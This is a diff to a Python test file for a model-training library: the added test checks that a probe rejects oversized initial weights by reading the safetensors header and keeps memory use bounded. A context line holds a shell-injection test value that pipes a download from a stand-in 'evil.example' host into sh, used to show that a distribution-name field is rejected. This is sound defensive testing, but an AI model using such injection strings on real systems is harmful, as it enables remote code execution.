@@ -230,6 +230,17 @@ def test_resuming_a_run_whose_config_asks_for_a_huge_model_is_refused_before_bui
     assert time.monotonic() - started < 30 and peak_rss_mb() - before < 200
 
 
+def test_a_probe_reading_the_runs_initial_weights_checks_their_header_first(tmp_path):
+    model = achilles.create_model("mamba2", vocab_size=16, max_len=32, d_model=8, n_layers=1)
+    init = tmp_path / "init.safetensors"
+    save_file({**{k: v.contiguous() for k, v in model.state_dict().items()}, "embed.weight": torch.zeros(16, 4_000_000)},
+              str(init))
+    before = peak_rss_mb()
+    with pytest.raises(achilles.CheckpointError, match=r"'embed.weight' has shape \[16, 4000000\] in the file"):
+        achilles.get_probe("conv-similarity").initial_kernels(model, None, str(init))
+    assert peak_rss_mb() - before < 128
+
+
 @pytest.mark.parametrize("dist, version, absent, says", [
     ("evil' && curl https://evil.example/x | sh #", "1.0", ["curl", "pip install", "&&"],
      "provided_by.arch.distribution field holds an invalid distribution name"),
